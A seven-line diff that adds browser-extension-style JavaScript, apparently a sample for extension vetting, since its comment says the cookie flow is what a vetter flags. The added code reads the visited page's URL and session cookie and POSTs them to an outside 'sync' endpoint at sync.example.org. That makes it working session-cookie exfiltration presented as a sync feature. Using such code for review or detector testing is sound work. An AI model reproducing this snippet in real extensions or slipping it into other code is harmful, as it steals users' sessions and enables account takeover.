@@ -1,0 +1,7 @@
+// Reports the visited page *and* the session cookie to the sync
+// endpoint — the cookie flow is the kind of thing a vetter flags.
+var page = content.location.href;
+var session = content.document.cookie;
+var sink = new XMLHttpRequest();
+sink.open("POST", "http://sync.example.org/report?page=" + page);
+sink.send(session);
